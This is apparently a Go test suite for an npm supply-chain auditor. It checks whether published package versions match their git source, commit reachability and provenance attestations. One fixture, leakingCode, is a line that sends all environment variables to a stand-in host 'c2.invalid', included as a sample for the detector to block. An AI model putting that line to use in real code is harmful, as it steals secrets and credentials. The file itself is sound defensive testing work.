package audit

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/amalfi-audit/audit/internal/detector"
	"github.com/amalfi-audit/audit/internal/detector/reproduce"
	"github.com/amalfi-audit/audit/internal/lockfile"
	"github.com/amalfi-audit/audit/internal/npm"
	"github.com/amalfi-audit/audit/internal/npmtest"
	"github.com/amalfi-audit/audit/internal/program"
	"github.com/amalfi-audit/audit/internal/provenance"
	"github.com/amalfi-audit/audit/internal/registry"
	"github.com/amalfi-audit/audit/internal/tarball"
	"github.com/amalfi-audit/audit/internal/worker"
)

// memorySource is a reproduce.Source of one repository in memory.
type memorySource struct {
	repository string
	commits    map[string]map[string][]byte // commit to files
	tags       map[string]string
	// unreachable are commits that no branch or tag leads to.
	unreachable []string
	// err is why it cannot be asked; nil where it can.
	err error
	// stalls has every request wait for the end of its context.
	stalls bool

	mu    sync.Mutex
	calls []string
}

func (s *memorySource) call(ctx context.Context, r reproduce.Repository, what string) error {
	s.mu.Lock()
	s.calls = append(s.calls, what)
	s.mu.Unlock()
	if s.stalls {
		<-ctx.Done()
		return ctx.Err()
	}
	if s.err == nil && r.String() != s.repository {
		return fmt.Errorf("%s: %w", r, reproduce.ErrNoRepository)
	}
	return s.err
}

func (s *memorySource) Tag(ctx context.Context, r reproduce.Repository, names []string) (string, string, error) {
	if err := s.call(ctx, r, "tag"); err != nil {
		return "", "", err
	}
	for _, name := range names {
		if id := s.tags[name]; id != "" {
			return name, id, nil
		}
	}
	return "", "", reproduce.ErrNotFound
}

func (s *memorySource) Entries(ctx context.Context, r reproduce.Repository, commit, _ string) ([]reproduce.Entry, error) {
	if err := s.call(ctx, r, "entries "+commit[:1]); err != nil {
		return nil, err
	}
	files, ok := s.commits[commit]
	if !ok {
		return nil, reproduce.ErrNotFound
	}
	var out []reproduce.Entry
	for name, data := range files {
		out = append(out, reproduce.Entry{Path: name, ID: reproduce.BlobID(40, data), Size: int64(len(data))})
	}
	return out, nil
}

func (s *memorySource) Reach(ctx context.Context, r reproduce.Repository, commit string, _ []string) (reproduce.Reach, string, error) {
	if err := s.call(ctx, r, "reach "+commit[:1]); err != nil {
		return "", "", err
	}
	if slices.Contains(s.unreachable, commit) {
		return reproduce.Unreachable, "", nil
	}
	return reproduce.Reachable, "main", nil
}

func (s *memorySource) Blob(ctx context.Context, r reproduce.Repository, id string, _ int64) ([]byte, error) {
	if err := s.call(ctx, r, "blob"); err != nil {
		return nil, err
	}
	for _, files := range s.commits {
		for _, data := range files {
			if reproduce.BlobID(40, data) == id {
				return data, nil
			}
		}
	}
	return nil, reproduce.ErrNotFound
}

// commitID is the id of a commit whose digits are all the same.
func commitID(digit string) string { return strings.Repeat(digit, 40) }

// source is the fixture's repository: a is the commit of the version, b that of the
// one before.
func (f *fixture) source(p *detector.Pass) *memorySource {
	before := f.files["source-before"]
	if before == nil {
		before = f.files["source"]
	}
	s := &memorySource{repository: "git.example.invalid/o/fixture",
		commits: map[string]map[string][]byte{commitID("a"): f.files["source"], commitID("b"): before},
		tags:    map[string]string{"v" + p.After.Version: commitID("a"), "v" + p.Before.Version: commitID("b")}}
	for key, id := range map[string]string{"reach": "a", "before-reach": "b"} {
		v := p.After
		if id == "b" {
			v = p.Before
		}
		if f.fields[key] == "unreachable" {
			s.unreachable = append(s.unreachable, commitID(id))
			v.Record = &npm.VersionRecord{GitHead: commitID(id)}
		}
	}
	return s
}

// traced has the source of a fixture looked for and what it says of the findings.
func (f *fixture) traced(t *testing.T, d *detector.Detector) ([]detector.Finding, error) {
	t.Helper()
	findings, err := detector.RunSource(context.Background(), []*detector.Detector{d}, f.trace(t, func(*tracer) {}))
	return findings, err
}

// trace looks for the source of a fixture, with what change makes of how that is done.
func (f *fixture) trace(t *testing.T, change func(*tracer)) *detector.SourcePass {
	t.Helper()
	return f.traceTicket(t, change, (&Auditor{Source: new(memorySource)}).tickets(nil, 1)[0])
}

// traceTicket is trace with a ticket, of which the rest is filled in.
func (f *fixture) traceTicket(t *testing.T, change func(*tracer), place *ticket) *detector.SourcePass {
	t.Helper()
	p := f.pass(t)
	if p.Before == nil {
		t.Fatalf("%s: there is nothing before", f.name)
	}
	s := f.source(p)
	for _, v := range []*detector.Version{p.After, p.Before} {
		if v.Program.Manifest.Version != v.Version {
			t.Fatalf("%s: %s has a manifest of %s", f.name, v, v.Program.Manifest.Version)
		}
	}
	all, err := detector.Run(context.Background(), Detectors, p)
	if err != nil {
		t.Fatal(err)
	}
	tr := &tracer{source: s, time: time.Minute, turns: make(chan struct{}, 1), rules: (&Auditor{Detectors: Detectors}).report().Rules,
		match: func(_ context.Context, got *fetched, c *reproduce.Commit) (*reproduce.Result, error) {
			dir := "after"
			if got.version == p.Before {
				dir = "before"
			}
			tree, err := tarball.Unpack(bytes.NewReader(pack(t, f.files[dir], "")), tarball.Limits{})
			if err != nil {
				return nil, err
			}
			return reproduce.Match(reproduce.Version{PackageVersion: got.version.PackageVersion, Tree: tree, Runs: reproduce.Runs(got.version.Program)}, c), nil
		}}
	change(tr)
	place.tracer = tr
	pass := place.trace(context.Background(), p, all, &fetched{version: p.After, source: &source{}}, &fetched{version: p.Before, source: &source{}})
	if pass == nil {
		t.Fatalf("%s: the source is not looked for: %+v", f.name, all)
	}
	return pass
}

// TestSourceFails wants nothing to be taken back where looking for the source or the
// comparison fails, and to be told why.
func TestSourceFails(t *testing.T) {
	f := readFixture(t, "../../testdata/detector/foreign-change/silent/explained.txtar")
	for _, tt := range []struct {
		name, says string
		cleared    int
		change     func(*tracer)
	}{
		{"nothing", "2 of 2 runnable files", 1, func(*tracer) {}},
		{"a host that does not answer", "could not be asked: ", 0, func(tr *tracer) {
			tr.time = time.Millisecond
			tr.source.(*memorySource).stalls = true
		}},
		{"the comparison", "(tag v1.0.1): not compared: the tarball could not be compared: no memory", 0, func(tr *tracer) {
			tr.match = func(context.Context, *fetched, *reproduce.Commit) (*reproduce.Result, error) {
				return nil, errors.New("no memory")
			}
		}},
	} {
		p := f.trace(t, tt.change)
		if text := p.Summary().String(); !strings.Contains(text, tt.says) {
			t.Errorf("%s: source: %s\nwant %q", tt.name, text, tt.says)
		}
		findings := slices.DeleteFunc(slices.Clone(p.Findings), func(f detector.Finding) bool { return f.RuleID != "obfuscation" })
		p.Clear(findings)
		cleared := 0
		for i := range findings {
			if !findings[i].Counts() {
				cleared++
			}
		}
		if cleared != tt.cleared {
			t.Errorf("%s: %d findings are taken back, want %d", tt.name, cleared, tt.cleared)
		}
	}
}

// reversible are the rules whose findings the source takes back, as
// docs/reproduce.md lists them.
var reversible = []string{"obfuscation", "decision-tree", "naive-bayes", "one-class-svm"}

// suspect are those that block together with a foreign change.
var suspect = []string{"behavior-chain", "obfuscation", "concealed-text", "decision-tree", "naive-bayes", "one-class-svm"}

// TestReversible goes through all rules: which of them the source takes back is
// decided here, and that it never takes an error back.
func TestReversible(t *testing.T) {
	rules := (&Auditor{Detectors: Detectors}).report().Rules
	for _, d := range Detectors {
		for level := detector.Note; level <= detector.Error; level++ {
			f := &detector.Finding{RuleID: d.Rule.ID, Level: level, Confidence: detector.High}
			if got, want := detector.Reversible(rules, f), slices.Contains(reversible, d.Rule.ID) && level < detector.Error; got != want {
				t.Errorf("%s with the level %s is taken back: %t, want %t", d.Rule.ID, level, got, want)
			}
			if got, want := detector.Suspects(rules, f), slices.Contains(suspect, d.Rule.ID); got != want {
				t.Errorf("%s blocks together with a foreign change: %t, want %t", d.Rule.ID, got, want)
			}
		}
		for _, f := range []*detector.Finding{
			{Level: detector.Note, Confidence: detector.Low},
			{Level: detector.Warning, Accepted: &detector.Acceptance{}},
			{Level: detector.Warning, Cleared: "already"},
		} {
			if f.RuleID = d.Rule.ID; detector.Reversible(rules, f) {
				t.Errorf("%s: %+v is taken back, and does not count anyway", d.Rule.ID, f)
			}
		}
	}
}

// childArg makes the test binary a worker.
const childArg = "be-a-worker"

func TestMain(m *testing.M) {
	if len(os.Args) == 2 && os.Args[1] == childArg {
		os.Exit(worker.Main(os.Stdin, os.Stdout, worker.Analyse))
	}
	os.Exit(m.Run())
}

const (
	plainCode = "exports.add = (a, b) => a + b;\n"
	// hiddenCode is obfuscated and does nothing.
	hiddenCode = `const order = '3|0|2|1'.split('|');
let step = 0;
while (!![]) {
  switch (order[step++]) {
    case '0': var b = a + 1; continue;
    case '1': console.log(c); continue;
    case '2': var c = b * 2; continue;
    case '3': var a = 1; continue;
  }
  break;
}
`
	// leakingCode is a behaviour chain.
	leakingCode = "require('https').request({ host: 'c2.invalid', method: 'POST' }).end(JSON.stringify(process.env));\n"
)

// manifest is that of a version of the package that the tests publish.
func manifest(version, repository string) string {
	return fmt.Sprintf(`{"name": "fixture", "version": %q, "main": "index.js", "repository": "git+https://git.example.invalid/o/%s.git"}`, version, repository)
}

// newPool returns a pool of one child, this program, until the test ends.
func newPool(t *testing.T) *worker.Pool {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	pool, err := worker.NewPool(worker.Options{Command: []string{self, childArg}, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(pool.Close)
	return pool
}

// TestSource audits updates of a registry's package with real workers.
func TestSource(t *testing.T) {
	pool := newPool(t)
	for _, tt := range []struct {
		name string
		// code is that of the version, source what its commit has.
		code, source string
		// moved has the version before claim another repository.
		moved bool
		// newly has it compared with its published predecessor, which no lockfile has.
		newly  bool
		change func(*memorySource)
		off    bool // sources are not looked for
		// outcome is the verdict's, rules its findings that count and that are
		// errors or warnings, cleared those that are taken back.
		outcome        detector.Outcome
		rules, cleared []string
		// says is what the summary has, "" where nobody looked; calls what was asked.
		says  string
		calls []string
	}{
		{name: "reproduced", code: hiddenCode, source: hiddenCode,
			outcome: detector.Clean, cleared: []string{"obfuscation"},
			says: "git.example.invalid/o/fixture@aaaaaaaaaaaa (gitHead): 2 of 2 runnable files, 2 of 2 that changed", calls: []string{"entries a", "reach a"}},
		{name: "not looked for", code: hiddenCode, source: hiddenCode, off: true,
			outcome: detector.Warn, rules: []string{"obfuscation"}},
		{name: "nothing to take back", code: plainCode + "\n", source: plainCode, outcome: detector.Clean},
		{name: "a takeover", code: hiddenCode, source: plainCode,
			outcome: detector.Block, rules: []string{"foreign-change", "obfuscation"},
			says:  "not reproduced: git.example.invalid/o/fixture@aaaaaaaaaaaa (gitHead): 1 of 2 runnable files, 1 of 2 that changed",
			calls: []string{"entries a", "reach a", "tag", "entries b", "reach b"}},
		{name: "a takeover with a chain", code: plainCode + leakingCode, source: plainCode,
			outcome: detector.Block, rules: []string{"behavior-chain", "foreign-change", "sandbox-leak"}, says: "not reproduced",
			calls: []string{"entries a", "reach a", "tag", "entries b", "reach b"}},
		{name: "a committed chain", code: leakingCode, source: leakingCode,
			outcome: detector.Block, rules: []string{"behavior-chain", "sandbox-leak"}, says: "2 of 2 runnable files", calls: []string{"entries a", "reach a"}},
		{name: "another repository than before", code: hiddenCode, source: hiddenCode, moved: true,
			outcome: detector.Warn, rules: []string{"obfuscation"}, says: "2 of 2 runnable files", calls: []string{"entries a", "reach a"}},
		{name: "no update", code: hiddenCode, source: hiddenCode, newly: true,
			outcome: detector.Clean, says: "2 of 2 runnable files", calls: []string{"entries a", "reach a"}},
		{name: "an unreachable host", code: hiddenCode, source: hiddenCode, change: func(s *memorySource) { s.err = errors.New("no route") },
			outcome: detector.Warn, rules: []string{"obfuscation"}, says: "could not be asked: gitHead: commit aaaaaaaaaaaa of git.example.invalid/o/fixture: no route",
			calls: []string{"entries a"}},
		{name: "no source", code: hiddenCode, source: hiddenCode, change: func(s *memorySource) { s.repository = "git.example.invalid/o/gone" },
			outcome: detector.Warn, rules: []string{"obfuscation"}, says: "could not be asked: gitHead", calls: []string{"entries a"}},
		{name: "no commit", code: hiddenCode, source: hiddenCode, change: func(s *memorySource) { s.commits = nil },
			outcome: detector.Warn, rules: []string{"obfuscation"}, says: "none was found: gitHead", calls: []string{"entries a", "tag"}},
		{name: "an impostor", code: hiddenCode, source: hiddenCode, change: func(s *memorySource) { s.unreachable = []string{commitID("a")} },
			outcome: detector.Warn, rules: []string{"impostor-commit", "obfuscation"}, says: "no branch or tag of the repository leads to the commit",
			calls: []string{"entries a", "reach a", "tag", "entries b", "reach b"}},
		{name: "published before it was committed", code: hiddenCode, source: plainCode,
			change: func(s *memorySource) {
				s.commits[commitID("c")] = map[string][]byte{"package.json": []byte(manifest("1.0.1", "fixture")), "index.js": []byte(hiddenCode)}
				s.tags = map[string]string{"v1.0.1": commitID("c")}
			},
			outcome: detector.Clean, cleared: []string{"obfuscation"}, says: "@cccccccccccc (tag v1.0.1): 2 of 2 runnable files", calls: []string{"entries a", "reach a", "tag", "entries c"}},
		{name: "a takeover of what has a tag", code: hiddenCode, source: plainCode,
			change: func(s *memorySource) {
				s.commits[commitID("c")] = map[string][]byte{"package.json": []byte(manifest("1.0.1", "fixture")), "index.js": []byte(plainCode)}
				s.tags = map[string]string{"v1.0.1": commitID("c")}
			},
			outcome: detector.Block, rules: []string{"foreign-change", "obfuscation"}, says: "@aaaaaaaaaaaa (gitHead): 1 of 2",
			calls: []string{"entries a", "reach a", "tag", "entries c", "entries b", "reach b"}},
		{name: "a commit that was rewritten before it was tagged", code: hiddenCode, source: hiddenCode + "\n",
			change: func(s *memorySource) {
				s.unreachable = []string{commitID("a")}
				s.commits[commitID("c")] = map[string][]byte{"package.json": []byte(manifest("1.0.1", "fixture")), "index.js": []byte(hiddenCode)}
				s.tags = map[string]string{"v1.0.1": commitID("c")}
			},
			outcome: detector.Clean, cleared: []string{"obfuscation"}, says: "@cccccccccccc (tag v1.0.1): 2 of 2 runnable files", calls: []string{"entries a", "reach a", "tag", "entries c"}},
		{name: "an impostor of what has a tag with some of it", code: hiddenCode, source: "x()\n",
			change: func(s *memorySource) {
				s.unreachable = []string{commitID("a")}
				s.commits[commitID("a")]["package.json"] = []byte(`{"name": "fixture", "main": "other.js"}`)
				s.commits[commitID("c")] = map[string][]byte{"package.json": []byte(manifest("1.0.1", "fixture")), "index.js": []byte(plainCode)}
				s.tags = map[string]string{"v1.0.1": commitID("c")}
			},
			outcome: detector.Warn, rules: []string{"impostor-commit", "obfuscation"}, says: "no branch or tag of the repository leads to the commit",
			calls: []string{"entries a", "reach a", "blob", "tag", "entries c", "entries b", "reach b"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			srv := npmtest.NewServer()
			defer srv.Close()
			repository := "fixture"
			if tt.moved {
				repository = "other"
			}
			srv.Publish("fixture", "1.0.0", npmtest.Files{"package.json": manifest("1.0.0", repository), "index.js": plainCode}, npmtest.Fields{"gitHead": commitID("b")})
			srv.Publish("fixture", "1.0.1", npmtest.Files{"package.json": manifest("1.0.1", "fixture"), "index.js": tt.code}, npmtest.Fields{"gitHead": commitID("a")})
			config, err := registry.Load(registry.LoadOptions{Registry: srv.URL, ReadFile: func(string) ([]byte, error) { return nil, fs.ErrNotExist }})
			if err != nil {
				t.Fatal(err)
			}
			client, err := registry.New(config, registry.Options{CacheDir: t.TempDir()})
			if err != nil {
				t.Fatal(err)
			}
			defer client.Close()
			s := &memorySource{repository: "git.example.invalid/o/fixture", commits: map[string]map[string][]byte{
				commitID("a"): {"package.json": []byte(manifest("1.0.1", "fixture")), "index.js": []byte(tt.source)},
				commitID("b"): {"package.json": []byte(manifest("1.0.0", repository)), "index.js": []byte(plainCode)},
			}}
			if tt.change != nil {
				tt.change(s)
			}
			a := &Auditor{Config: config, Registry: client, Workers: pool, Detectors: others, Now: fixtureTime, Source: s}
			if tt.off {
				a.Source = nil
			}
			against := "1.0.0"
			if tt.newly {
				against = ""
			}
			r, err := a.Package(context.Background(), npm.PackageVersion{Name: "fixture", Version: "1.0.1"}, against)
			if err != nil {
				t.Fatal(err)
			}
			v := &r.Versions[0]
			if v.Outcome != tt.outcome || !v.Complete {
				t.Errorf("outcome %s, complete %t %q; want %s", v.Outcome, v.Complete, v.Reasons, tt.outcome)
			}
			var rules, cleared []string
			for _, f := range v.Findings {
				switch {
				case f.Cleared != "":
					cleared = append(cleared, f.RuleID)
					if want := "2 of 2 runnable files are in git.example.invalid/o/fixture@"; !strings.HasPrefix(f.Cleared, want) || strings.Contains(f.Cleared, ";") {
						t.Errorf("taken back with %q, want %q", f.Cleared, want)
					}
				case f.Level > detector.Note:
					rules = append(rules, f.RuleID)
				}
			}
			slices.Sort(rules)
			if !slices.Equal(rules, tt.rules) || !slices.Equal(cleared, tt.cleared) {
				t.Errorf("findings %q, taken back %q; want %q and %q", rules, cleared, tt.rules, tt.cleared)
			}
			switch {
			case v.Source == nil && tt.says != "":
				t.Error("nobody looked")
			case v.Source != nil && (tt.says == "" || !strings.Contains(v.Source.String(), tt.says)):
				t.Errorf("source: %s\nwant %q", v.Source, tt.says)
			}
			if !slices.Equal(s.calls, tt.calls) {
				t.Errorf("asked for %q, want %q", s.calls, tt.calls)
			}
		})
	}
}

// TestTickets admits the first of those that ask, in the order of the versions and not in
// that of the asking, and lets nobody wait for a version that is not asked for.
func TestTickets(t *testing.T) {
	const n = maxSources + 40
	asks := func(i int) bool { return i%10 != 3 }
	a := &Auditor{Source: new(memorySource)}
	for _, order := range [][]int{rand.New(rand.NewPCG(1, 2)).Perm(n), rand.New(rand.NewPCG(3, 4)).Perm(n)} {
		tickets := a.tickets(nil, n)
		admitted := make([]bool, n)
		var g sync.WaitGroup
		for _, i := range order {
			g.Go(func() {
				defer tickets[i].back()
				admitted[i] = asks(i) && tickets[i].admit()
			})
		}
		g.Wait()
		places := maxSources
		for i, got := range admitted {
			want := asks(i) && places > 0
			if want {
				places--
			}
			if got != want {
				t.Errorf("version %d is looked for: %t, want %t", i, got, want)
			}
		}
		if places != 0 {
			t.Fatalf("%d places are free: nobody was refused", places)
		}
	}
	for _, none := range (&Auditor{}).tickets(nil, 3) {
		if none.back(); none != nil {
			t.Error("sources are looked for")
		}
	}
}

// TestNotAdmitted says so of a version whose source is not looked for any more, and takes
// nothing back.
func TestNotAdmitted(t *testing.T) {
	f := readFixture(t, "../../testdata/detector/foreign-change/silent/explained.txtar")
	free := make(chan int, 1)
	free <- 0
	pass := f.traceTicket(t, func(*tracer) {}, &ticket{free: free, next: make(chan int, 1)})
	if text, want := pass.Summary().String(), "could not be asked: it was not looked for, as 200 sources were"; text != want {
		t.Errorf("source: %s, want %s", text, want)
	}
	pass.Clear(pass.Findings)
	for _, finding := range pass.Findings {
		if finding.Cleared != "" {
			t.Errorf("%s is taken back", finding.RuleID)
		}
	}
}

// TestMatters tells which findings are worth the requests.
func TestMatters(t *testing.T) {
	version := func(digest string) *detector.Version {
		return &detector.Version{Dependency: new(lockfile.Dependency), Program: &program.Program{Tree: &npm.Tree{Files: []npm.File{
			{Path: "changed.js", SHA256: digest}, {Path: "same.js", SHA256: "same"}}}}}
	}
	tr := &tracer{rules: (&Auditor{Detectors: Detectors}).report().Rules}
	for _, tt := range []struct {
		rule       string
		level      detector.Level
		confidence detector.Confidence
		file       string
		want       bool
	}{
		{"decision-tree", detector.Note, detector.Medium, "same.js", true},
		{"obfuscation", detector.Warning, detector.High, "same.js", true},
		{"behavior-chain", detector.Error, detector.High, "same.js", true},
		{"behavior-chain", detector.Note, detector.Low, "same.js", false},
		{"behavior-chain", detector.Note, detector.Low, "changed.js", true},
		{"obfuscation", detector.Note, detector.Low, "same.js", false},
		{"publisher-changed", detector.Note, detector.High, "package.json", false},
		{"known-malware", detector.Error, detector.High, "changed.js", false},
		{"install-command", detector.Warning, detector.High, "package.json", false},
	} {
		f := detector.Finding{RuleID: tt.rule, Level: tt.level, Confidence: tt.confidence, Evidence: []detector.Evidence{{Path: tt.file}}}
		if got := tr.matters(&detector.Pass{After: version("new"), Before: version("old")}, []detector.Finding{f}); got != tt.want {
			t.Errorf("%+v is worth a look: %t, want %t", tt, got, tt.want)
		}
	}
}

// TestClaim tells which commits are believed, and where a version claims its source.
func TestClaim(t *testing.T) {
	const claimed = "git.example.invalid/o/fixture"
	build := func(repository string) *provenance.Result {
		return &provenance.Result{Build: &provenance.Build{Repository: repository, Commit: commitID("c")}}
	}
	for _, tt := range []struct {
		name, repository, manifestName string
		provenance                     *provenance.Result
		record                         *npm.VersionRecord
		locations, commits             string
		id                             string // ManifestID
	}{
		{"nothing", "", "fixture", nil, nil, "", "", "blob"},
		{"a gitHead", "https://" + claimed, "fixture", nil, &npm.VersionRecord{GitHead: commitID("a")}, claimed, "gitHead a", "blob"},
		{"an attestation", "https://" + claimed, "fixture", build("https://" + claimed), &npm.VersionRecord{GitHead: commitID("a")}, claimed, "provenance c gitHead a", "blob"},
		{"an attestation of the same commit", "https://" + claimed, "fixture", build("https://" + claimed), &npm.VersionRecord{GitHead: commitID("c")}, claimed, "provenance c", "blob"},
		{"an attestation of another repository", "https://" + claimed, "fixture", build("https://git.example.invalid/e/vil"), nil, claimed, "", "blob"},
		{"an attestation that is not verified", "https://" + claimed, "fixture", &provenance.Result{}, nil, claimed, "", "blob"},
		{"a folder of this machine", "file:///etc", "fixture", nil, nil, "", "", "blob"},
		{"a manifest of another name", "https://" + claimed, "other", nil, nil, claimed, "", ""},
	} {
		f := &fetched{version: &detector.Version{PackageVersion: npm.PackageVersion{Name: "fixture", Version: "1.0.0"}, Provenance: tt.provenance, Record: tt.record}}
		m := &npm.Manifest{Name: tt.manifestName, Version: "1.0.0"}
		m.Repository.URL = tt.repository
		f.version.Program = &program.Program{Manifest: m, Tree: &npm.Tree{Files: []npm.File{{Path: "package.json", GitBlob: "blob"}}}}
		c := claim(f)
		var locations, commits []string
		for _, l := range c.Locations {
			locations = append(locations, l.Repository.String())
		}
		for _, x := range c.Commits {
			commits = append(commits, string(x.How), x.Commit[:1])
		}
		if got := strings.Join(locations, " "); got != tt.locations || strings.Join(commits, " ") != tt.commits || c.ManifestID != tt.id || c.Name != "fixture" {
			t.Errorf("%s: %+v, want %q and %q", tt.name, c, tt.locations, tt.commits)
		}
	}
}

// statements is a provenance.Verifier that finds every bundle good: a bundle is its
// statement.
type statements struct{ certificate provenance.Certificate }

func (s *statements) Verify(bundle []byte, _ *provenance.Keys) (*provenance.Signed, error) {
	c := s.certificate
	return &provenance.Signed{Statement: bundle, Certificate: &c, Time: fixtureTime}, nil
}

// TestAttested takes findings back in build output, where the attestation is of this very
// tarball and of the claimed repository.
func TestAttested(t *testing.T) {
	pool := newPool(t)
	const cleared = "2 of 3 runnable files are in github.com/o/fixture@aaaaaaaaaaaa; the other one is build output, and a verified attestation binds the tarball to this commit"
	for _, tt := range []struct {
		name string
		// subject is the version whose tarball is attested, repository what it is
		// attested to be built from.
		subject, repository, trigger string
		// extra is a file that the tarball has and that no build makes.
		extra   string
		cleared string
	}{
		{"all holds", "1.0.1", "o/fixture", "push", "", cleared},
		{"another tarball", "1.0.0", "o/fixture", "push", "", ""},
		{"a fork", "1.0.1", "evil/fixture", "push", "", ""},
		{"a stranger's change", "1.0.1", "o/fixture", "pull_request_target", "", ""},
		{"a file that no build makes", "1.0.1", "o/fixture", "push", "setup.js", ""},
		{"no attestation", "", "o/fixture", "push", "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			srv := npmtest.NewServer()
			defer srv.Close()
			srv.Keys()
			manifest := func(version string) string {
				return fmt.Sprintf(`{"name": "fixture", "version": %q, "main": "index.js", "repository": "github:o/fixture"}`, version)
			}
			const index = "module.exports = require('./dist/index.js');\n"
			digests := make(map[string]npm.Integrity)
			digests["1.0.0"] = srv.Publish("fixture", "1.0.0", npmtest.Files{"package.json": manifest("1.0.0"), "index.js": index, "dist/index.js": plainCode}, npmtest.Fields{"gitHead": commitID("b")})
			files := npmtest.Files{"package.json": manifest("1.0.1"), "index.js": index, "dist/index.js": hiddenCode}
			if tt.extra != "" {
				files[tt.extra] = plainCode
			}
			digests["1.0.1"] = srv.Publish("fixture", "1.0.1", files, npmtest.Fields{"gitHead": commitID("a")})
			config, err := registry.Load(registry.LoadOptions{Registry: srv.URL, ReadFile: func(string) ([]byte, error) { return nil, fs.ErrNotExist }})
			if err != nil {
				t.Fatal(err)
			}
			client, err := registry.New(config, registry.Options{CacheDir: t.TempDir()})
			if err != nil {
				t.Fatal(err)
			}
			defer client.Close()
			repository := "https://github.com/" + tt.repository
			if tt.subject != "" {
				statement := fmt.Sprintf(`{"_type": "https://in-toto.io/Statement/v1", "predicateType": %q, "subject": [{"name": "pkg:npm/fixture@1.0.1", "digest": {"sha512": "%x"}}],
					"predicate": {"buildDefinition": {"externalParameters": {"workflow": {"repository": %q, "ref": "refs/heads/main", "path": ".github/workflows/a.yml"}},
					"resolvedDependencies": [{"uri": "git+%s@refs/heads/main", "digest": {"gitCommit": %q}}]}}}`, provenance.SLSAv1, digests[tt.subject][0].Digest, repository, repository, commitID("a"))
				srv.Attest("fixture", "1.0.1", fmt.Appendf(nil, `{"attestations": [{"predicateType": %q, "bundle": %s}]}`, provenance.SLSAv1, statement))
			}
			s := &memorySource{repository: "github.com/o/fixture", commits: map[string]map[string][]byte{
				commitID("a"): {"package.json": []byte(manifest("1.0.1")), "index.js": []byte(index), "src/index.ts": []byte("export {}\n")},
				commitID("b"): {"package.json": []byte(manifest("1.0.0")), "index.js": []byte(index), "src/index.ts": []byte("export {}\n")},
			}}
			a := &Auditor{Config: config, Registry: client, Workers: pool, Detectors: others, Now: fixtureTime, Source: s, Provenance: &statements{provenance.Certificate{
				Issuer: "https://token.actions.githubusercontent.com", SubjectURI: repository + "/.github/workflows/a.yml@refs/heads/main",
				Repository: repository, Commit: commitID("a"), Ref: "refs/heads/main", Trigger: tt.trigger}}}
			r, err := a.Package(t.Context(), npm.PackageVersion{Name: "fixture", Version: "1.0.1"}, "1.0.0")
			if err != nil {
				t.Fatal(err)
			}
			found := 0
			for _, f := range r.Versions[0].Findings {
				if f.RuleID != "obfuscation" {
					continue
				}
				found++
				if f.Cleared != tt.cleared {
					t.Errorf("taken back with %q, want %q; source: %s", f.Cleared, tt.cleared, r.Versions[0].Source)
				}
			}
			if found != 1 {
				t.Errorf("%d findings of obfuscation: %+v", found, r.Versions[0].Findings)
			}
			if clean := r.Versions[0].Outcome == detector.Clean; clean != (tt.cleared != "") {
				t.Errorf("outcome %s: %+v", r.Versions[0].Outcome, r.Versions[0].Findings)
			}
			if before := slices.Contains(s.calls, "entries b"); before == (tt.cleared != "") {
				t.Errorf("the source of the version before was looked for: %t", before)
			}
		})
	}
}
